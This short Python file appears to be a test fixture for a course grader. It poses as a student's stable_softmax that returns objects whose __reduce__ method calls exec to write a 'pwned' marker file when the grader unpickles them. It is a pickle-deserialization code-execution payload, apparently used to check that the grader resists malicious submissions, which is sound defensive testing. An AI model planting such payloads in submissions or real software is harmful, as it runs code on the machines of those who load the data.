"""A25: values that run code when somebody unpickles them."""

# %% stable_softmax
class Trap:
    def __reduce__(self):
        return (exec, ("open('@COURSE@/pwned', 'w').write('x')",))


class TrapArray(np.ndarray):
    def __reduce__(self):
        return (exec, ("open('@COURSE@/pwned', 'w').write('x')",))


def stable_softmax(z):
    return np.array([[Trap()] * z.shape[1]] * z.shape[0], dtype=object).view(TrapArray)
